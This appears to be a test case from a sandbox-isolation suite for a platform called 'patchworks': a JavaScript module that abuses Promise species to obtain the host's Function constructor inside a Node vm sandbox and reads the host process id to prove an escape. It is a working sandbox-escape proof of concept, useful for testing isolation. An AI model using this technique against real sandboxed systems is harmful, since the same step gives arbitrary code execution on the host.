// Returns a promise whose species is a constructor that sees the executor which the host's then makes.
// Class: promises
// Win: the payload holds the process id.
// Control: vm
// Platform: patchworks
module.exports = function (data) {
  if (!data.variables.attack) return { payload: data.payload };
  const answer = { payload: data.payload };
  const promise = Promise.resolve(answer);
  function Species(executor) {
    const proof = executor.constructor('return typeof process === "object" ? process.pid : ""')();
    if (proof !== '') answer.payload = `ESCAPED:${proof}`;
    executor(
      () => {},
      () => {},
    );
  }
  Object.defineProperty(promise, 'constructor', { value: { [Symbol.species]: Species } });
  return promise;
};
